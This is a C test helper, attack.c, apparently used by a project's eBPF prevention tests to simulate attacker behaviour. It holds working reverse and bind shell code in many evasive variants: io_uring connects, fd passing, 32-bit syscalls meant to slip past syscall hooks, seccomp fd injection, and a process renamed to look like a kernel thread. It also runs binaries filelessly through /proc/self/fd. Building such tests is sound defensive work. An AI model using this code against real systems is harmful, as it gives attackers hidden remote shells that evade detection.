/* attack.c - what an attacker would run inside a session, for the prevention tests
 * (tests/bpf/test_prevention.py). Traffic goes only to the addresses the test passes (a
 * network-namespace test host). Modes:
 *   connect IP PORT        connect(), dup2 onto 0-2, exec /bin/sh -i       (reverse shell)
 *   connect-in IP PORT     connect(), dup2 onto 0 only, exec /bin/sh -i (its output stays on
 *                          the caller's stdout: a shell reading commands from the network)
 *   uring IP PORT          the connect through io_uring (IORING_OP_CONNECT), prctl(PR_SET_NAME),
 *                          dup2 onto 0-2, exec /bin/sh -i
 *   scm IP PORT            a child waits on a socketpair; the parent connect()s and passes
 *                          the socket to it (sendmsg SCM_RIGHTS), the child recvmsg()s it, dup2s
 *                          it onto 0-2 and execs /bin/sh -i; the parent exits 0 when the
 *                          child is gone                  (a reverse shell with no connect of its own)
 *   bind PORT              listen on every interface, accept, dup2 the accepted socket onto
 *                          0-2, exec /bin/sh -i                             (bind shell)
 *   compat IP PORT         socket, connect and dup2 onto 0-2 as 32-bit system calls (int $0x80
 *                          from this 64-bit program: no syscall tracepoint sees them), exec
 *                          /bin/sh -i                   (a reverse shell the syscall hooks miss)
 *   compat-quiet           getuid, uname and dup2 as 64-bit calls with the numbers 32-bit
 *                          socketcall, dup2 and dup have (102, 63, 41 is socket: not called)
 *   clonefiles IP PORT     a child made with clone(CLONE_FILES) (the parent's fd table, not a
 *                          thread) connects and dup2s the socket onto 0-2, then exits; the
 *                          parent, whose fds they are too, execs /bin/sh -i
 *   clonefiles-rev IP PORT the other way round: the child (clone(CLONE_FILES), made first)
 *                          waits; the parent connects and dup2s the socket onto 0-2; the
 *                          child then execs /bin/sh -i
 *   addfd IP PORT          a child installs a seccomp filter with a user-notification listener
 *                          (SECCOMP_RET_USER_NOTIF on getcpu), passes the listener to the
 *                          parent and calls getcpu; the parent connects and installs the socket
 *                          on the child's fds 0 and 1 (SECCOMP_IOCTL_NOTIF_ADDFD, SETFD), lets
 *                          the call go on; the child execs /bin/sh -i     (no dup at all)
 *   x32                    getpid as an x32 ABI call (0x40000000 | 39; ENOSYS where x32 is off)
 *   uring-write PATH TEXT  openat + write through io_uring; prints the bytes written
 *   tmpfile DIR            O_TMPFILE copy of /bin/sleep, reopened read-only through
 *                          /proc/self/fd/N, exec'd through /proc/self/fd/M
 *   unlinked PATH          write a copy of /bin/sleep to PATH, open it read-only, unlink it,
 *                          exec it through /proc/self/fd/N
 * Exit codes: 0 the last step returned, 2 usage, 3 a step failed (errno on stderr).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/utsname.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sched.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

static int fail(const char *what)
{
    fprintf(stderr, "%s: %s\n", what, strerror(errno));
    return 3;
}

static void shell_on(int fd)
{
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    execl("/bin/sh", "sh", "-i", (char *)0);
    _exit(127);
}

/* one fd over a unix socket: sendmsg with SCM_RIGHTS */
static int send_fd(int sock, int fd)
{
    char byte = 'x';
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    union {
        struct cmsghdr align;
        char buf[CMSG_SPACE(sizeof(int))];
    } u;
    memset(&u, 0, sizeof(u));
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf,
                         .msg_controllen = sizeof(u.buf)};
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof(int));
    return sendmsg(sock, &msg, 0) == 1 ? 0 : -1;
}

/* the fd a recvmsg brought (SCM_RIGHTS), -1 when none */
static int recv_fd(int sock)
{
    char byte;
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    union {
        struct cmsghdr align;
        char buf[CMSG_SPACE(sizeof(int))];
    } u;
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf,
                         .msg_controllen = sizeof(u.buf)};
    if (recvmsg(sock, &msg, 0) != 1)
        return -1;
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    if (!c || c->cmsg_level != SOL_SOCKET || c->cmsg_type != SCM_RIGHTS)
        return -1;
    int fd;
    memcpy(&fd, CMSG_DATA(c), sizeof(int));
    return fd;
}

struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static int ring_open(struct ring *r)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof(p));
    r->fd = (int)syscall(__NR_io_uring_setup, 4, &p);
    if (r->fd < 0)
        return -1;
    char *sq = mmap(0, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
                    MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
    char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
                    PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
    r->sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                   MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
        return -1;
    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p.sq_off.array);
    r->cq_head = (unsigned *)(cq + p.cq_off.head);
    r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return 0;
}

/* submit one SQE and wait for its completion; returns cqe.res */
static int ring_run(struct ring *r, const struct io_uring_sqe *sqe)
{
    unsigned tail = *r->sq_tail;
    unsigned idx = tail & *r->sq_mask;
    r->sqes[idx] = *sqe;
    r->sq_array[idx] = idx;
    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -errno;
    unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
    int res = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

static int copy_file(int to, const char *from)
{
    int in = open(from, O_RDONLY);
    if (in < 0)
        return -1;
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof(buf))) > 0)
        if (write(to, buf, n) != n)
            return -1;
    close(in);
    return n < 0 ? -1 : 0;
}

#if defined(__x86_64__)
/* a 32-bit system call from this 64-bit program: arguments in ebx, ecx, edx (pointers must lie
 * below 4 GiB: the caller maps them with MAP_32BIT) */
static long compat_call(long nr, long a, long b, long c)
{
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return r;
}
#define COMPAT_SOCKET 359
#define COMPAT_CONNECT 362
#define COMPAT_DUP2 63
#endif

/* addfd: the child's half - a filter that hands getcpu to a listener, the listener passed to
 * the parent, then the call the parent answers after changing our fds */
static int addfd_child(int sock)
{
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getcpu, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {.len = 4, .filter = f};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0))
        return fail("no_new_privs");
    int lfd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
    if (lfd < 0)
        return fail("seccomp");
    if (send_fd(sock, lfd))
        return fail("sendmsg");
    close(lfd);
    syscall(SYS_getcpu, 0, 0, 0);
    execl("/bin/sh", "sh", "-i", (char *)0);
    return fail("exec");
}

static int addfd_parent(int sock, struct sockaddr_in *sa)
{
    int lfd = recv_fd(sock);
    if (lfd < 0)
        return fail("recvmsg");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)sa, sizeof(*sa)))
        return fail("connect");
    struct seccomp_notif req;
    memset(&req, 0, sizeof(req));
    if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &req))
        return fail("notif_recv");
    for (int fd = 0; fd < 2; fd++) {
        struct seccomp_notif_addfd a = {.id = req.id, .flags = SECCOMP_ADDFD_FLAG_SETFD,
                                        .srcfd = (__u32)s, .newfd = (__u32)fd};
        if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_ADDFD, &a) < 0)
            return fail("notif_addfd");
    }
    struct seccomp_notif_resp resp;
    memset(&resp, 0, sizeof(resp));
    resp.id = req.id;
    resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    close(s);
    wait(0);
    return 0;
}

/* clonefiles' child: the fd table is the parent's */
static int clone_connect(void *arg)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)arg, sizeof(struct sockaddr_in)))
        _exit(3);
    dup2(s, 0);
    dup2(s, 1);
    dup2(s, 2);
    _exit(0);
}

/* clonefiles-rev's child: a moment later, a shell on the stdio the parent set up meanwhile
 * in the fd table they share (the parent may be killed at its dup2: the table stays) */
static int clone_exec_later(void *arg)
{
    (void)arg;
    usleep(300000);
    execl("/bin/sh", "sh", "-i", (char *)0);
    _exit(127);
}

static struct sockaddr_in addr_of(const char *ip, const char *port)
{
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons(atoi(port));
    inet_pton(AF_INET, ip, &sa.sin_addr);
    return sa;
}

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    const char *mode = argv[1];
    char path[64];
    if (!strcmp(mode, "connect") && argc == 4) {
        struct sockaddr_in sa = addr_of(argv[2], argv[3]);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&sa, sizeof(sa)))
            return fail("connect");
        shell_on(s);
    } else if (!strcmp(mode, "connect-in") && argc == 4) {
        struct sockaddr_in sa = addr_of(argv[2], argv[3]);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&sa, sizeof(sa)))
            return fail("connect");
        dup2(s, 0);
        execl("/bin/sh", "sh", "-i", (char *)0);
        return fail("exec");
#if defined(__x86_64__)
    } else if (!strcmp(mode, "compat") && argc == 4) {
        struct sockaddr_in *sa = mmap(0, 4096, PROT_READ | PROT_WRITE,
                                      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        if (sa == MAP_FAILED)
            return fail("mmap");
        *sa = addr_of(argv[2], argv[3]);
        long s = compat_call(COMPAT_SOCKET, AF_INET, SOCK_STREAM, 0);
        if (s < 0) {
            errno = (int)-s;
            return fail("socket (int 0x80)");
        }
        long rc = compat_call(COMPAT_CONNECT, s, (long)(unsigned long)sa, sizeof(*sa));
        if (rc < 0) {
            errno = (int)-rc;
            return fail("connect (int 0x80)");
        }
        for (long fd = 0; fd < 3; fd++)
            compat_call(COMPAT_DUP2, s, fd, 0);
        execl("/bin/sh", "sh", "-i", (char *)0);
        return fail("exec");
    } else if (!strcmp(mode, "clonefiles") && argc == 4) {
        static struct sockaddr_in sa;
        sa = addr_of(argv[2], argv[3]);
        static char stack[65536];
        pid_t child = clone(clone_connect, stack + sizeof(stack), CLONE_FILES | SIGCHLD, &sa);
        if (child < 0)
            return fail("clone");
        waitpid(child, 0, 0);   /* killed at its dup2 or not: the fds are the parent's too */
        execl("/bin/sh", "sh", "-i", (char *)0);
        return fail("exec");
    } else if (!strcmp(mode, "clonefiles-rev") && argc == 4) {
        struct sockaddr_in sa = addr_of(argv[2], argv[3]);
        static char stack[65536];
        pid_t child = clone(clone_exec_later, stack + sizeof(stack), CLONE_FILES | SIGCHLD, 0);
        if (child < 0)
            return fail("clone");
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&sa, sizeof(sa)))
            return fail("connect");
        dup2(s, 0);
        dup2(s, 1);
        dup2(s, 2);
        waitpid(child, 0, 0);
        return 0;
    } else if (!strcmp(mode, "addfd") && argc == 4) {
        struct sockaddr_in sa = addr_of(argv[2], argv[3]);
        int sp[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, sp))
            return fail("socketpair");
        pid_t child = fork();
        if (child < 0)
            return fail("fork");
        if (child == 0)
            _exit(addfd_child(sp[1]));
        return addfd_parent(sp[0], &sa);
    } else if (!strcmp(mode, "x32")) {
        long r = syscall(0x40000000L | 39);
        printf("%ld\n", r < 0 ? -errno : r);
        return 0;
    } else if (!strcmp(mode, "compat-quiet")) {
        struct utsname u;
        if (getuid() == (uid_t)-1 || uname(&u) || dup2(1, 9) != 9)
            return fail("getuid/uname/dup2");
        return 0;
#endif
    } else if (!strcmp(mode, "uring") && argc == 4) {
        static struct sockaddr_in sa;
        sa = addr_of(argv[2], argv[3]);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct ring r;
        if (ring_open(&r))
            return fail("io_uring_setup");
        struct io_uring_sqe sqe;
        memset(&sqe, 0, sizeof(sqe));
        sqe.opcode = IORING_OP_CONNECT;
        sqe.fd = s;
        sqe.addr = (unsigned long)&sa;
        sqe.off = sizeof(sa);
        int res = ring_run(&r, &sqe);
        if (res < 0) {
            errno = -res;
            return fail("IORING_OP_CONNECT");
        }
        prctl(PR_SET_NAME, "kworker/0:1");
        shell_on(s);
    } else if (!strcmp(mode, "scm") && argc == 4) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
            return fail("socketpair");
        pid_t child = fork();
        if (child == 0) {
            int fd = recv_fd(pair[1]);
            if (fd < 0)
                return fail("recvmsg");
            shell_on(fd);
        }
        struct sockaddr_in sa = addr_of(argv[2], argv[3]);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&sa, sizeof(sa)))
            return fail("connect");
        if (send_fd(pair[0], s))
            return fail("sendmsg");
        close(s);
        waitpid(child, 0, 0);
        return 0;
    } else if (!strcmp(mode, "bind") && argc == 3) {
        struct sockaddr_in sa = addr_of("0.0.0.0", argv[2]);
        int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
        setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
        if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 1))
            return fail("bind/listen");
        struct sockaddr_in peer;
        socklen_t len = sizeof(peer);
        int c = accept(s, (struct sockaddr *)&peer, &len);
        if (c < 0)
            return fail("accept");
        shell_on(c);
    } else if (!strcmp(mode, "uring-write") && argc == 4) {
        struct ring r;
        if (ring_open(&r))
            return fail("io_uring_setup");
        struct io_uring_sqe sqe;
        memset(&sqe, 0, sizeof(sqe));
        sqe.opcode = IORING_OP_OPENAT;
        sqe.fd = AT_FDCWD;
        sqe.addr = (unsigned long)argv[2];
        sqe.len = 0644;
        sqe.open_flags = O_WRONLY | O_CREAT | O_TRUNC;
        int fd = ring_run(&r, &sqe);
        if (fd < 0) {
            errno = -fd;
            return fail("IORING_OP_OPENAT");
        }
        memset(&sqe, 0, sizeof(sqe));
        sqe.opcode = IORING_OP_WRITE;
        sqe.fd = fd;
        sqe.addr = (unsigned long)argv[3];
        sqe.len = strlen(argv[3]);
        int n = ring_run(&r, &sqe);
        if (n < 0) {
            errno = -n;
            return fail("IORING_OP_WRITE");
        }
        printf("%d\n", n);
        return 0;
    } else if (!strcmp(mode, "tmpfile") && argc == 3) {
        int fd = open(argv[2], O_TMPFILE | O_RDWR, 0755);
        if (fd < 0 || copy_file(fd, "/bin/sleep"))
            return fail("O_TMPFILE");
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        int ro = open(path, O_RDONLY);
        if (ro < 0)
            return fail("reopen");
        close(fd);
        snprintf(path, sizeof(path), "/proc/self/fd/%d", ro);
        execl(path, "payload", "1", (char *)0);
        return fail("exec");
    } else if (!strcmp(mode, "unlinked") && argc == 3) {
        int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (fd < 0 || copy_file(fd, "/bin/sleep"))
            return fail("write payload");
        close(fd);
        int ro = open(argv[2], O_RDONLY);
        if (ro < 0 || unlink(argv[2]))
            return fail("open/unlink");
        snprintf(path, sizeof(path), "/proc/self/fd/%d", ro);
        execl(path, "payload", "1", (char *)0);
        return fail("exec");
    }
    return 2;
}
